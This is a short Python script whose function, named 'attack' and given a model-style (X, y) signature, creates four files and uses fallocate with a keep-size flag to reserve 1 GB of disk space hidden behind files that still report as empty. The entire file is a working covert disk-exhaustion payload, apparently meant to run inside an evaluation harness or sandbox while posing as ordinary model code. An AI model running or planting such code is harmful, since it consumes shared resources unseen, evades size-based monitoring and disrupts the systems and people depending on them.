"""Reserves 1 GB behind the ends of files that stay empty."""

import ctypes
import os
import time

KEEP_SIZE, SIZE = 1, 256 << 20
LIBC = ctypes.CDLL(None, use_errno=True)


def attack(X, y):
    for number in range(4):
        file = os.open(str(number), os.O_CREAT | os.O_WRONLY)
        if LIBC.fallocate(file, KEEP_SIZE, ctypes.c_long(0), ctypes.c_long(SIZE)) != 0:
            raise OSError(ctypes.get_errno(), "fallocate")
    time.sleep(1)
    return True
